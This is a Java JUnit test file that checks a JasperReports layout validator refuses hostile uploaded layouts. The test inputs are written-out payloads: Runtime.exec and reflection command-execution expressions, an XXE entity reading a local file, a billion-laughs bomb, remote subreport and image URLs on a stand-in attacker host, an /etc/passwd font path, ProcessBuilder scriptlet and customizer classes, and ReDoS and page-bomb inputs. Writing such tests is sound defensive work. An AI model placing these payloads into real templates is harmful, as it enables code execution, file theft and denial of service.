package se.finsam.uppfoljning.reports;

import net.sf.jasperreports.engine.JasperReport;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A layout is code: every one of these uploads is refused, or stopped, with a Swedish message that
 * says why, and none of them gets to run anything — each tries to create a marker file, and the
 * marker never appears.
 */
class MaliciousLayoutTest {

    private static final PmRenderer RENDERER = new PmRenderer();
    private static final LayoutKontroll KONTROLL = new LayoutKontroll(RENDERER);

    private Path marker;

    @BeforeEach
    void marker() throws Exception {
        Path dir = Files.createTempDirectory("layoutprov");
        marker = dir.resolve("kordes");
    }

    @AfterEach
    void nothingRan() throws Exception {
        assertThat(marker).as("ingenting i layouten fick köras").doesNotExist();
        Files.deleteIfExists(marker.getParent());
    }

    @Test
    void runtimeExecInAnExpressionIsStoppedByTheClassFilter() {
        Granskning g = granska(Layouter.tabell("Runtime.getRuntime().exec(\"touch " + marker + "\").toString()", ""));
        assertRefused(g, Fynd.Typ.KLASS, "java.lang.Runtime", "inte får använda");
        assertThat(g.fynd().getFirst().rad()).as("raden med uttrycket").isEqualTo(7);
    }

    @Test
    void reflectionThroughClassForNameIsStoppedByTheClassFilter() {
        Granskning g = granska(Layouter.tabell("String.valueOf(Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\")"
                + ".invoke(null))", ""));
        assertRefused(g, Fynd.Typ.KLASS, "java.lang.Class", "inte får använda");
    }

    @Test
    void newJavaIoFileIsStoppedByTheClassFilter() {
        Granskning g = granska(Layouter.tabell("String.valueOf(new java.io.File(\"" + marker.getFileName()
                + "\").createNewFile())", ""));
        assertRefused(g, Fynd.Typ.KLASS, "java.io.File", "inte får använda");
    }

    @Test
    void anExternalEntityIsRefusedBeforeAnythingIsRead() throws Exception {
        Files.writeString(marker.resolveSibling("hemlig.txt"), "hemligt");
        String xxe = """
                <?xml version="1.0" encoding="UTF-8"?>
                <!DOCTYPE jasperReport [<!ENTITY xxe SYSTEM "file://%s">]>
                """.formatted(marker.resolveSibling("hemlig.txt"))
                + Layouter.tabell("\"&xxe;\"", "").replaceFirst("<\\?xml[^>]*>\\s*", "");
        Granskning g = granska(xxe);
        assertRefused(g, Fynd.Typ.XML, "DOCTYPE", "externa entiteter");
        assertThat(g.fynd()).noneMatch(f -> f.meddelande().contains("hemligt"));
        Files.delete(marker.resolveSibling("hemlig.txt"));
    }

    @Test
    void aBillionLaughsDocumentIsRefused() {
        StringBuilder entities = new StringBuilder("<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            entities.append("<!ENTITY lol").append(i).append(" \"")
                    .append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10)).append("\">");
        }
        String bomb = "<?xml version=\"1.0\"?>\n<!DOCTYPE jasperReport [" + entities + "]>\n"
                + Layouter.tabell("\"&lol9;\"", "").replaceFirst("<\\?xml[^>]*>\\s*", "");
        assertRefused(granska(bomb), Fynd.Typ.XML, "DOCTYPE", "entitetsbomb");
    }

    @Test
    void aRemoteSubreportIsRefused() {
        String subreport = """
                		<element kind="subreport" x="0" y="30" width="495" height="10">
                			<expression><![CDATA["http://angripare.example/elak.jasper"]]></expression>
                		</element>
                """;
        Granskning g = granska(Layouter.tabell("\"Tabell\"", subreport));
        assertRefused(g, Fynd.Typ.ADRESS, "http://angripare.example/elak.jasper", "adress eller fil");
    }

    @Test
    void aRemoteImageAndAFontFileAreRefused() {
        String image = """
                		<element kind="image" x="0" y="30" width="100" height="50">
                			<expression><![CDATA["https://angripare.example/spara.png"]]></expression>
                		</element>
                		<element kind="textField" x="0" y="90" width="100" height="20" pdfFontName="/etc/passwd">
                			<expression><![CDATA["x"]]></expression>
                		</element>
                """;
        Granskning g = granska(Layouter.tabell("\"Tabell\"", image));
        assertThat(g.godkand()).isFalse();
        assertThat(g.fynd()).anyMatch(f -> f.typ() == Fynd.Typ.ADRESS && f.meddelande().contains("En bild"));
        assertThat(g.fynd()).anyMatch(f -> f.typ() == Fynd.Typ.OTILLATET && f.meddelande().contains("pdfFontName"));
    }

    @Test
    void aSerializedJasperFileIsRefusedUnread() throws Exception {
        JasperReport compiled = RENDERER.standard().rapport("pm-tabell-5").orElseThrow();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(compiled);
        }
        Granskning g = KONTROLL.granska("pm-tabell-5", bytes.toByteArray());
        assertRefused(g, Fynd.Typ.INTE_JRXML, "serialiserad", ".jrxml");
    }

    @Test
    void anEndlessLoopInAnExpressionIsRefused() {
        Granskning g = granska(Layouter.tabell("new Object() { public String toString() { while (true) { } } }.toString()", ""));
        assertRefused(g, Fynd.Typ.UTTRYCK, "loopar", "anonyma klasser");
    }

    @Test
    void aRegularExpressionThatCouldRunForeverIsRefused() {
        Granskning g = granska(Layouter.tabell("String.valueOf(\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\".matches(\"(a+)+b\"))", ""));
        assertRefused(g, Fynd.Typ.UTTRYCK, "matches", "låsa servern");
    }

    @Test
    void aLayoutThatPrintsPageAfterPageIsStoppedAtThePageCap() {
        String breaks = IntStream.range(0, 378).mapToObj(y ->
                "\t\t<element kind=\"break\" x=\"0\" y=\"" + (21 + y) + "\" width=\"10\" height=\"1\"/>")
                .collect(Collectors.joining("\n"));
        // a page break on every other point of the title band, and again in the summary: some 380 pages
        Granskning g = granska(Layouter.tabell("\"Sida\"", breaks)
                .replace("</jasperReport>", "\t<summary height=\"400\">\n" + breaks + "\n\t</summary>\n</jasperReport>"));
        assertRefused(g, Fynd.Typ.SIDGRANS, "sidor", "stoppades");
    }

    @Test
    void aFillThatRunsPastTheTimeCapIsStopped() {
        LayoutKontroll otalig = new LayoutKontroll(RENDERER, Duration.ofMillis(1));
        Granskning g = otalig.granska("pm-tabell-5", Layouter.bytes(Layouter.standard("pm-tabell-5")));
        assertRefused(g, Fynd.Typ.TIDSGRANS, "stoppades", "för lång tid");
    }

    @Test
    void theGovernorsCannotBeSwitchedOffByTheLayout() {
        String property = "<property name=\"net.sf.jasperreports.governor.max.pages.enabled\" value=\"false\"/>";
        Granskning g = granska(Layouter.tabell("\"x\"", "").replace("<field ", property + "\n\t<field "));
        assertRefused(g, Fynd.Typ.OTILLATET, "net.sf.jasperreports.governor.max.pages.enabled", "får inte sättas");
    }

    @Test
    void aScriptletIsRefused() {
        Granskning g = granska(Layouter.tabell("\"x\"", "").replace("whenNoDataType=\"NoPages\"",
                "whenNoDataType=\"NoPages\" scriptletClass=\"java.lang.ProcessBuilder\""));
        assertRefused(g, Fynd.Typ.OTILLATET, "scriptletClass", "inte tillåtet");
    }

    @Test
    void aChartsCustomizerClassIsRefused() {
        String chart = Layouter.standard("pm-tabell-11").replace("kind=\"chart\" chartType=\"bar\"",
                "kind=\"chart\" chartType=\"bar\" customizerClass=\"java.lang.ProcessBuilder\"");
        Granskning g = KONTROLL.granska("pm-tabell-11", Layouter.bytes(chart));
        assertRefused(g, Fynd.Typ.OTILLATET, "customizerClass", "inte tillåtet");
    }

    @Test
    void runtimeExecInAChartsValueIsStoppedByTheClassFilter() {
        String chart = Layouter.standard("pm-tabell-11").replace("<valueExpression><![CDATA[$F{kvinnor}]]>",
                "<valueExpression><![CDATA[new java.math.BigDecimal(Runtime.getRuntime().exec(\"touch " + marker + "\").hashCode())]]>");
        Granskning g = KONTROLL.granska("pm-tabell-11", Layouter.bytes(chart));
        assertRefused(g, Fynd.Typ.KLASS, "java.lang.Runtime", "inte får använda");
    }

    @Test
    void theBuildsChartLayoutPasses() {
        Granskning g = KONTROLL.granska("pm-tabell-11", Layouter.bytes(Layouter.standard("pm-tabell-11")));
        assertThat(g.fynd()).isEmpty();
        assertThat(g.rapport()).isPresent();
    }

    @Test
    void theHarmlessVersionOfTheSameLayoutPasses() {
        // text with slashes and colons is text, not an address
        Granskning g = granska(Layouter.tabell("\"Tabell \" + String.valueOf(Math.max(1, 5)) + \" / \" + \"Ja/Nej\" + \"Obs: kl:10\"", ""));
        assertThat(g.fynd()).isEmpty();
        assertThat(g.rapport()).isPresent();
    }

    private Granskning granska(String jrxml) {
        return KONTROLL.granska("pm-tabell-5", Layouter.bytes(jrxml));
    }

    private static void assertRefused(Granskning g, Fynd.Typ typ, String... inMessage) {
        assertThat(g.godkand()).as("underkänd").isFalse();
        assertThat(g.rapport()).isEmpty();
        assertThat(g.fynd()).as("fynden " + g.fynd()).anySatisfy(f -> {
            assertThat(f.typ()).isEqualTo(typ);
            for (String s : inMessage) {
                assertThat(f.meddelande()).contains(s);
            }
        });
    }
}
